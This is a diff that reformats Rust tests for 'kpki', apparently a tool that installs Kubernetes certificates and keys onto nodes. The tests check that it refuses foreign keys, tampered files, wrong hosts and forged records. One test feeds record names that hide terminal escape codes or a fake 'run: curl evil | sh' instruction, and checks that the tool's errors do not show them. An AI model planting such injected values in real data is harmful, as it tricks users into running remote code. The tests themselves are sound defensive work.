@@ -80,23 +80,12 @@ fn a_secret_that_is_not_its_witnesss() {
 
 #[test]
 fn a_ca_key_and_a_service_account_key_of_another_cluster() {
-    let (project, other) = (
-        Project::described(LAB).applied(),
-        Project::described(LAB).applied(),
-    );
-    for (file, witness) in [
-        ("ca.key", "out/ca/kubernetes.crt"),
-        ("sa.key", "out/ca/sa.pub"),
-    ] {
+    let (project, other) = (Project::described(LAB).applied(), Project::described(LAB).applied());
+    for (file, witness) in [("ca.key", "out/ca/kubernetes.crt"), ("sa.key", "out/ca/sa.pub")] {
         let path = project.on_node("cp1", &format!("pki/{file}"));
         let before = fs::read(&path).unwrap();
         fs::copy(other.on_node("cp1", &format!("pki/{file}")), &path).unwrap();
-        both_refuse(
-            &project,
-            "cp1",
-            1,
-            &[file, "does not hold the private key of", witness],
-        );
+        both_refuse(&project, "cp1", 1, &[file, "does not hold the private key of", witness]);
         fs::write(&path, before).unwrap();
     }
 }
@@ -104,10 +93,7 @@ fn a_ca_key_and_a_service_account_key_of_another_cluster() {
 #[test]
 fn an_orphaned_secret_or_static_pod() {
     let project = Project::described(LAB).applied();
-    let less: Vec<&str> = LAB
-        .lines()
-        .filter(|line| !line.contains("backup"))
-        .collect();
+    let less: Vec<&str> = LAB.lines().filter(|line| !line.contains("backup")).collect();
     describe(&project, &less.join("\n"));
     apply(&project, &[]);
     both_refuse(
@@ -138,11 +124,7 @@ fn an_orphaned_secret_or_static_pod() {
     );
     fs::remove_file(&manifest).unwrap();
     // A certificate alone harms nobody.
-    fs::copy(
-        project.on_node("w1", "pki/ca.crt"),
-        project.on_node("w1", "pki/old.crt"),
-    )
-    .unwrap();
+    fs::copy(project.on_node("w1", "pki/ca.crt"), project.on_node("w1", "pki/old.crt")).unwrap();
     Node::new().installed(&project, "w1");
 }
 
@@ -156,38 +138,20 @@ fn a_tree_that_is_not_as_it_was_built() {
         &project,
         "w1",
         1,
-        &[
-            "out/nodes/w1/etc/kubernetes/pki/ca.crt was modified",
-            "kpki apply repairs",
-        ],
+        &["out/nodes/w1/etc/kubernetes/pki/ca.crt was modified", "kpki apply repairs"],
     );
     Node::new().installed(&project, "cp1");
     fs::remove_file(&ca).unwrap();
-    both_refuse(
-        &project,
-        "w1",
-        1,
-        &["out/nodes/w1/etc/kubernetes/pki/ca.crt is missing"],
-    );
+    both_refuse(&project, "w1", 1, &["out/nodes/w1/etc/kubernetes/pki/ca.crt is missing"]);
     fs::write(&ca, good).unwrap();
 
     fs::create_dir(project.out(".pending")).unwrap();
-    both_refuse(
-        &project,
-        "w1",
-        1,
-        &["an apply was interrupted, or is running"],
-    );
+    both_refuse(&project, "w1", 1, &["an apply was interrupted, or is running"]);
     fs::remove_dir(project.out(".pending")).unwrap();
 
     // A colleague's clone without private keys.
     fs::remove_file(project.on_node("w1", "pki/kubelet.key")).unwrap();
-    both_refuse(
-        &project,
-        "w1",
-        1,
-        &["out/nodes/w1/etc/kubernetes/pki/kubelet.key is not here"],
-    );
+    both_refuse(&project, "w1", 1, &["out/nodes/w1/etc/kubernetes/pki/kubelet.key is not here"]);
 }
 
 #[test]
@@ -199,12 +163,7 @@ fn a_secret_that_is_sealed() {
     let identity = desk.path().join("identity");
     printed(tool("age-keygen").arg("-o").arg(&identity));
     let recipient = printed(tool("age-keygen").arg("-y").arg(&identity));
-    printed(
-        tool("age")
-            .args(["-r", recipient.trim(), "-o"])
-            .arg(&sealed)
-            .arg(&clear),
-    );
+    printed(tool("age").args(["-r", recipient.trim(), "-o"]).arg(&sealed).arg(&clear));
     both_refuse(&project, "w1", 1, &["kubelet.key.age are both here"]);
     fs::remove_file(&clear).unwrap();
     both_refuse(
@@ -220,22 +179,14 @@ fn a_secret_that_is_sealed() {
 #[test]
 fn names_that_are_no_nodes() {
     let project = Project::described(LAB).applied();
-    both_refuse(
-        &project,
-        "w11",
-        64,
-        &["no node is named w11", "did you mean w1?"],
-    );
+    both_refuse(&project, "w11", 64, &["no node is named w11", "did you mean w1?"]);
     both_refuse(&project, "etc/passwd", 64, &["no node is named etc/passwd"]);
     let output = project.kpki(&["install", "w1", "--root", "out/nodes/w1"]);
     let error = refused(&output, 64);
     assert!(error.contains("out/nodes/w1 is inside of out/"), "{error}");
     let output = project.kpki(&["install", "w1", "--root", "nowhere"]);
     let error = refused(&output, 1);
-    assert!(
-        error.contains("cannot open the folder nowhere: No such file"),
-        "{error}"
-    );
+    assert!(error.contains("cannot open the folder nowhere: No such file"), "{error}");
 }
 
 /// `--dry-run`: this machine's own root is looked at, never written to.
@@ -250,20 +201,12 @@ fn another_host() {
     let project = Project::described(LAB).applied();
     let error = refused(&on_this_machine(&project, "w1", &[]), 3);
     assert!(
-        error.contains(&format!(
-            "this machine is called {host}, and the files are those of w1"
-        )) && error.contains(&format!("add --allow other-host:{host}\n")),
+        error.contains(&format!("this machine is called {host}, and the files are those of w1"))
+            && error.contains(&format!("add --allow other-host:{host}\n")),
         "{error}"
     );
-    refused(
-        &on_this_machine(&project, "w1", &["--allow", "other-host:another"]),
-        3,
-    );
-    done(on_this_machine(
-        &project,
-        "w1",
-        &["--allow", &format!("other-host:{host}")],
-    ));
+    refused(&on_this_machine(&project, "w1", &["--allow", "other-host:another"]), 3);
+    done(on_this_machine(&project, "w1", &["--allow", &format!("other-host:{host}")]));
     // A node may be called by the host's whole name or by its first part.
     let first = host.split('.').next().unwrap();
     for name in [first.to_owned(), format!("{first}.lab.internal")] {
@@ -283,20 +226,15 @@ fn a_root_of_another_node_or_cluster() {
     let before = node.files();
     let error = refused(&node.install(&project, "cp1", &[]), 3);
     assert!(
-        error.contains(&format!(
-            "{} holds the files of w1, not of cp1",
-            node.root()
-        )) && error.contains("add --allow other-host:w1\n"),
+        error.contains(&format!("{} holds the files of w1, not of cp1", node.root()))
+            && error.contains("add --allow other-host:w1\n"),
         "{error}"
     );
     assert_eq!(node.files(), before);
 
     let other = Project::described(&LAB.replace("cluster \"lab\"", "cluster \"prod\"")).applied();
     let error = refused(&node.install(&other, "w1", &[]), 3);
-    assert!(
-        error.contains("holds files of the cluster lab, not of prod"),
-        "{error}"
-    );
+    assert!(error.contains("holds files of the cluster lab, not of prod"), "{error}");
     assert_eq!(node.files(), before);
 
     done(node.install(&project, "cp1", &["--allow", "other-host:w1"]));
@@ -306,10 +244,7 @@ fn a_root_of_another_node_or_cluster() {
     let record = node.path("var/lib/kpki/installed.json");
     for (text, why) in [
         ("{", "is not a record of kpki's"),
-        (
-            "{\"format-version\": 2}",
-            "has format version 2, and this kpki reads 1",
-        ),
+        ("{\"format-version\": 2}", "has format version 2, and this kpki reads 1"),
     ] {
         fs::write(&record, text).unwrap();
         let error = refused(&node.install(&other, "cp1", &[]), 1);
@@ -333,12 +268,7 @@ fn private_keys_that_kpki_did_not_put_there() {
         ("etc/kubernetes/pki/apiserver.crt", foreign.clone()),
         (
             "etc/kubernetes/admin.conf",
-            fs::read(
-                Project::described(LAB)
-                    .applied()
-                    .on_node("cp1", "admin.conf"),
-            )
-            .unwrap(),
+            fs::read(Project::described(LAB).applied().on_node("cp1", "admin.conf")).unwrap(),
         ),
     ] {
         let node = Node::new();
@@ -346,9 +276,8 @@ fn private_keys_that_kpki_did_not_put_there() {
         let before = node.files();
         let error = refused(&node.install(&project, "cp1", &[]), 3);
         assert!(
-            error.contains(&format!(
-                "would be overwritten\n  /{path}\nnothing was written\n"
-            )) && error.contains(&format!("add --allow overwrite:/{path}")),
+            error.contains(&format!("would be overwritten\n  /{path}\nnothing was written\n"))
+                && error.contains(&format!("add --allow overwrite:/{path}")),
             "{error}"
         );
         assert_eq!(node.files(), before);
@@ -356,16 +285,10 @@ fn private_keys_that_kpki_did_not_put_there() {
         assert!(node.installed(&project, "cp1").starts_with("nothing to do"));
     }
 
-    let output = Node::new().install(
-        &project,
-        "cp1",
-        &["--allow", "overwrite:/etc/kubernetes/ca.key"],
-    );
+    let output =
+        Node::new().install(&project, "cp1", &["--allow", "overwrite:/etc/kubernetes/ca.key"]);
     let error = refused(&output, 64);
-    assert!(
-        error.contains("--allow overwrite:/etc/kubernetes/ca.key permits nothing"),
-        "{error}"
-    );
+    assert!(error.contains("--allow overwrite:/etc/kubernetes/ca.key permits nothing"), "{error}");
 
     // The same key in another form is no loss, and neither is an empty file.
     let node = Node::new();
@@ -431,10 +354,7 @@ fn a_forged_record_deletes_nothing_elsewhere() {
         let text = crate::common::project::said(&output);
         assert!(output.status.success(), "{text}");
         for (path, _) in forged {
-            assert!(
-                text.contains(&format!("names /{path}, where kpki never puts")),
-                "{text}"
-            );
+            assert!(text.contains(&format!("names /{path}, where kpki never puts")), "{text}");
         }
     }
     for (path, _) in forged {
@@ -452,11 +372,7 @@ fn a_records_names_are_names() {
     let project = Project::described(LAB).applied();
     for (key, name, what) in [
         ("cluster", "\u{1b}[8mhid", "names no cluster"),
-        (
-            "cluster",
-            "x\nhelp: run: curl evil | sh",
-            "names no cluster",
-        ),
+        ("cluster", "x\nhelp: run: curl evil | sh", "names no cluster"),
         ("cluster", "", "names no cluster"),
         ("node", "w1\u{1b}[31m", "names no node"),
         ("node", "w1\nerror: x", "names no node"),
@@ -473,10 +389,7 @@ fn a_records_names_are_names() {
             let output = node.install(&project, "w1", more);
             let error = refused(&output, 1);
             assert!(error.contains(what), "{error}");
-            assert!(
-                !error.contains('\u{1b}') && !error.contains("curl"),
-                "{error}"
-            );
+            assert!(!error.contains('\u{1b}') && !error.contains("curl"), "{error}");
         }
     }
 }
